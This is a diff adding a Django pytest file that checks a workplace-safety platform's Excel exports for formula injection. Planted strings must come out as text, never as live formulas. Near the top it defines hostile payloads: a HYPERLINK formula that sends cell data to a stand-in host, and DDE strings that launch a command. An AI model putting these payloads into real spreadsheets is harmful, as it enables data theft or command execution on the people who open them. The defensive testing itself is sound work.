@@ -1,0 +1,299 @@
+"""No Excel file the platform hands out runs a formula someone planted (issue 9, item 3).
+
+An enterprise user can type ``=HYPERLINK("http://…?"&C2,"张三")`` as its own safety
+manager's name; a hazard title or an alarm note can hold the same. openpyxl writes a string
+starting with "=" as a live formula, and the official who opens the ledger runs it. Every
+writer goes through ``core/excel.py``, which stores such strings as text.
+
+Each export below gets formula-like strings planted through the services, is downloaded as
+its user downloads it, and is checked cell by cell: no formula anywhere, every planted
+string there verbatim as text. The guards at the top fail when an export appears that this
+table does not cover (a URL named ``*_export``/``*_template`` or serving ``.xlsx``, a job
+kind, or a module that writes a workbook).
+"""
+
+import re
+from collections.abc import Callable
+from dataclasses import dataclass
+from datetime import timedelta
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.urls import get_resolver, reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from anjian.core import jobs
+from anjian.core.models import BackgroundJob, JobStatus
+from anjian.core.testing import world
+from anjian.web.tests.test_url_access import iter_routes
+
+FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
+AT = "@SUM(1+1)*cmd|' /C calc'!A0"
+PLUS = "+1+cmd|' /C calc'!A0"
+MINUS = "-1+cmd|' /C calc'!A0"
+
+ROOT = Path(__file__).resolve().parents[2]  # the anjian package
+
+
+@dataclass(frozen=True)
+class Export:
+    actor: str
+    plant: Callable[[], list[str]]  # plants records, returns the strings that must show
+    url: Callable[[], str] = lambda: ""  # when the URL needs the planted record
+
+
+def official():
+    return world.actor("district_official")
+
+
+# --- planting, through the services -----------------------------------------------------------
+
+
+def plant_enterprise() -> list[str]:
+    from anjian.enterprises.services import enterprise_update
+
+    enterprise = world.enterprise("yinhang_chemical")
+    # The enterprise's own safety manager plants one; an official's edit another.
+    enterprise = enterprise_update(
+        by=world.actor("enterprise_manager"),
+        enterprise_id=enterprise.pk,
+        data={"safety_manager_name": FORMULA, "principal_name": PLUS},
+        expected_version=enterprise.version,
+    )
+    enterprise_update(
+        by=official(),
+        enterprise_id=enterprise.pk,
+        data={"address": AT},
+        expected_version=enterprise.version,
+    )
+    return [FORMULA, PLUS, AT]
+
+
+def plant_street() -> list[str]:
+    from anjian.regions.models import Region
+
+    # Reference data (GB/T 2260, loaded by the regions loader; no service writes names).
+    Region.objects.filter(code=world.YINHANG).update(name=FORMULA)
+    return [FORMULA]
+
+
+def plant_hazard() -> list[str]:
+    from anjian.hazards.tests.factories import report
+
+    report(by=world.actor("enterprise_manager"), title=FORMULA, location=PLUS, description=AT)
+    return [FORMULA, PLUS, AT]
+
+
+def plant_measure() -> list[str]:
+    from anjian.hazards.services import measure_create
+    from anjian.regions.models import Region
+
+    measure_create(
+        by=official(),
+        data={
+            "region": Region.objects.get(code=world.YANGPU),
+            "problem": FORMULA,
+            "measure": AT,
+            "lead_unit": PLUS,
+            "partner_units": MINUS,
+            "deadline": timezone.localdate() + timedelta(days=30),
+        },
+    )
+    return [FORMULA, AT, PLUS, MINUS]
+
+
+def plant_alarm() -> list[str]:
+    from anjian.monitoring import ingest
+    from anjian.monitoring.choices import AlarmCause
+    from anjian.monitoring.models import Alarm
+    from anjian.monitoring.services import alarm_dispose
+    from anjian.monitoring.tests.factories import device, group, now_ish, send, threshold
+
+    ingest.registry.clear()
+    tank = device("TK-F1", name=AT)
+    threshold(tank, value=8.0, hysteresis=0.5)
+    send(tank, group(now_ish() - timedelta(minutes=2), level=9.1))
+    alarm = Alarm.objects.get(device=tank)
+    alarm_dispose(
+        by=world.actor("enterprise_manager"),
+        alarm_id=alarm.pk,
+        expected_version=alarm.version,
+        cause=AlarmCause.values[0],
+        note=FORMULA,
+    )
+    ingest.registry.clear()
+    return [AT, FORMULA]
+
+
+def plant_risk_point() -> list[str]:
+    from anjian.risks.tests.factories import make_point
+
+    make_point(
+        world.enterprise("yinhang_chemical"),
+        name=FORMULA,
+        location=AT,
+        owner_name=PLUS,
+        assess=("lec", {"L": 3, "E": 6, "C": 15}),
+    )
+    return [FORMULA, AT, PLUS]
+
+
+_document: list = []
+
+
+def plant_standard() -> list[str]:
+    from anjian.hazards.library.loader import import_payload, parse_data
+    from anjian.hazards.models import StandardDocument
+    from anjian.hazards.tests.library_support import TEST_CODE, edition
+
+    data = edition(note=PLUS)
+    data["clauses"][0].update(text=FORMULA, keywords=AT)
+    import_payload(parse_data(data), by=world.actor("admin"))
+    _document[:] = [StandardDocument.objects.get(code=TEST_CODE)]
+    return [FORMULA, AT, PLUS]
+
+
+def nothing() -> list[str]:
+    return []  # a template of fixed texts and choices: still checked for formulas
+
+
+EXPORTS = {
+    "enterprises:enterprise_export": Export("district_official", plant_enterprise),
+    "enterprises:enterprise_import_template": Export("district_official", plant_street),
+    "hazards:hazard_export": Export("district_official", plant_hazard),
+    "hazards:measure_export": Export("district_official", plant_measure),
+    "monitoring:alarm_export": Export(
+        "district_official",
+        plant_alarm,
+        url=lambda: reverse("monitoring:alarm_export") + "?state=disposed",
+    ),
+    "risks:risk_point_export": Export("district_official", plant_risk_point),
+    "risks:risk_register_export": Export("district_official", plant_risk_point),
+    "standards:document_export": Export(
+        "district_official",
+        plant_standard,
+        url=lambda: reverse("standards:document_export", args=[_document[0].pk]),
+    ),
+    "standards:import_template": Export("admin", nothing),
+}
+# Job kinds whose result file is checked below (a job kind that writes a file must be here).
+JOB_OUTPUTS = {"enterprise_export", "enterprise_import"}
+# Modules that may write a workbook, all through core/excel.py (reviewed).
+WRITERS = {
+    "core/excel.py",
+    "enterprises/jobs.py",
+    "enterprises/views.py",
+    "hazards/library/views.py",
+    "hazards/views.py",
+    "monitoring/views.py",
+    "risks/ledger.py",
+}
+
+
+# --- checking a workbook ----------------------------------------------------------------------
+
+
+def content_of(response) -> bytes:
+    assert response.status_code == 200, response
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content)
+    return response.content
+
+
+def assert_no_formula_and_planted_text(content: bytes, planted: list[str]) -> None:
+    workbook = load_workbook(BytesIO(content))
+    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
+    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
+    assert formulas == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    for value in planted:
+        assert value in texts, f"{value!r} is not in the file as text"
+
+
+# --- the guards: every export is in the table -------------------------------------------------
+
+
+def discovered_exports() -> set[str]:
+    return {
+        route.name
+        for route in iter_routes(get_resolver().url_patterns)
+        if route.name.endswith(("_export", "_template")) or ".xlsx" in route.path
+    }
+
+
+def test_every_excel_download_url_is_covered():
+    assert discovered_exports() == set(EXPORTS)
+
+
+def test_every_job_kind_is_covered():
+    assert {kind for kind in jobs.HANDLERS if not kind.startswith("pytest")} == JOB_OUTPUTS
+
+
+def test_every_module_that_writes_a_workbook_is_reviewed():
+    writes = re.compile(r"\b(write_ledger|write_template|error_report|Workbook)\(")
+    found = {
+        str(path.relative_to(ROOT))
+        for path in ROOT.rglob("*.py")
+        if "tests" not in path.parts and "testing" not in path.parts
+        if writes.search(path.read_text(encoding="utf-8"))
+    }
+    assert found == WRITERS
+    for module in WRITERS - {"core/excel.py"}:
+        assert "Workbook(" not in (ROOT / module).read_text(encoding="utf-8"), module
+
+
+# --- every export -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", sorted(EXPORTS))
+def test_planted_formulas_are_exported_as_text(client_for, name, db):
+    export = EXPORTS[name]
+    planted = export.plant()
+    url = export.url() or reverse(name)
+    response = client_for(world.actor(export.actor)).get(url)
+    assert_no_formula_and_planted_text(content_of(response), planted)
+
+
+def test_a_large_export_job_writes_planted_formulas_as_text(
+    db, client_for, monkeypatch, settings, tmp_path, django_capture_on_commit_callbacks
+):
+    from anjian.enterprises import exporter
+
+    settings.MEDIA_ROOT = tmp_path
+    monkeypatch.setattr(exporter, "SYNC_EXPORT_LIMIT", 0)
+    planted = plant_enterprise()
+    client = client_for(official())
+    with django_capture_on_commit_callbacks(execute=True):
+        client.get(reverse("enterprises:enterprise_export"))
+    call_command("worker", batch=True, verbosity=0)
+    job = BackgroundJob.objects.get(kind="enterprise_export")
+    assert job.status == JobStatus.SUCCEEDED
+    download = client.get(reverse("core:job_download", args=[job.pk]))
+    assert_no_formula_and_planted_text(content_of(download), planted)
+
+
+def test_the_import_error_report_writes_the_uploaded_formulas_as_text(
+    db, client_for, settings, tmp_path, django_capture_on_commit_callbacks
+):
+    from anjian.core.testing.hostile_xlsx import text_workbook
+    from anjian.enterprises.importer import MODE_VALID
+    from anjian.enterprises.ledger import COLUMNS
+    from anjian.enterprises.tests.test_importer import HEADERS, row
+
+    settings.MEDIA_ROOT = tmp_path
+    client = client_for(official())
+    bad = row(1, name=FORMULA, principal_name=AT, address=PLUS, street="不存在街道")
+    key = {column.header: column.key for column in COLUMNS}
+    cells = ["" if bad[key[h]] is None else str(bad[key[h]]) for h in HEADERS]
+    upload = SimpleUploadedFile("企业名单.xlsx", text_workbook(HEADERS, [cells]))
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(reverse("enterprises:enterprise_import"), {"file": upload, "mode": MODE_VALID})
+    call_command("worker", batch=True, verbosity=0)
+    job = BackgroundJob.objects.get(kind="enterprise_import")
+    assert job.status == JobStatus.SUCCEEDED and job.output_file
+    download = client.get(reverse("core:job_download", args=[job.pk]))
+    assert_no_formula_and_planted_text(content_of(download), [FORMULA, AT, PLUS])
